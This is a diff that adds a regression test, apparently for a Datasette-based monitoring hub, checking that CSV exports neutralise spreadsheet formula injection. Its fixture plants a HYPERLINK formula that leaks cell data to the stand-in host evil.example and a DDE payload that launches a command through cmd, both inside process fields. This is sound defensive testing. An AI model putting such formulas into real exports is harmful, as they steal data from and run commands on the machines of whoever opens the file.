@@ -568,3 +568,31 @@ def test_l1_admin_sessions_end_when_the_admin_password_changes(hub_config):
     rotated.cookies = dict(cookies)
     response = rotated.get("/admin")
     assert response.status_code == 302 and response.headers["location"].startswith("/login")
+
+
+# -- L2: CSV formula injection ------------------------------------------------------------------
+def test_l2_csv_exports_escape_formulas(datasette, hub_config):
+    """L2: process user / container names like =HYPERLINK(...) reach every CSV export (canned
+    queries, tables, ?sql=, streamed) with a leading ' so a spreadsheet shows text; numbers
+    (negative too) stay numbers."""
+    import csv
+    import io
+
+    admin = Client(datasette)
+    assert admin.login(hub_config.get("auth.username"), hub_config.password).status_code == 302
+    report = sample_report("csv-host", gpus=1, processes=1)
+    report["processes"][0]["user"] = '=HYPERLINK("http://evil.example/?d="&A3&B3,"Open report")'
+    report["processes"][0]["container"] = "=cmd|' /C calc'!A0"
+    assert ingest(admin, report, hub_config.get("agent.token")).status_code == 201
+    paths = ["/monitor/processes.csv?_size=max", "/monitor/processes.csv?_dl=1",
+             "/monitor/gpu_processes.csv?_stream=1",
+             "/monitor.csv?sql=select+user,+container,+-3+as+n,+'-2%2B3'+as+f+from+gpu_processes"]
+    for path in paths:
+        response = admin.get(path)
+        assert response.status_code == 200, path
+        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), (path, cells)
+        assert "'=HYPERLINK(\"http://evil.example/?d=\"&A3&B3,\"Open report\")" in cells, path
+        assert "'=cmd|' /C calc'!A0" in cells, path
+    sql_cells = list(csv.reader(io.StringIO(admin.get(paths[-1]).text)))[1]
+    assert sql_cells[2:] == ["-3", "'-2+3"]
